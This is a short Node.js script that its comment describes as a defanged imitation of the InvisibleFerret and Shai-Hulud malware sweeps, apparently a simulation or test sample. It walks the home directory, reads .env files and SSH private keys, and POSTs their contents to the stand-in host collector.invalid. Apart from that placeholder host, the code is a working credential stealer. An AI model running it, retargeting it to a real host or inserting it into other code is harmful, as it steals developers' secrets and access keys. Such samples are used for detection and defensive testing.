// Mimics InvisibleFerret / Shai-Hulud sweeps: walk home for .env files and SSH keys, post them (defanged).
const fs = require('fs');
const path = require('path');
const os = require('os');

const wanted = ['.env', '.ssh/id_rsa'];
const found = [];
function walk(dir, depth) {
  if (depth > 4) return;
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) walk(full, depth + 1);
    else if (wanted.some((w) => full.endsWith(w))) found.push(fs.readFileSync(full, 'utf8'));
  }
}
walk(os.homedir(), 0);
fetch('https://collector.invalid/env', { method: 'POST', body: JSON.stringify(found) });
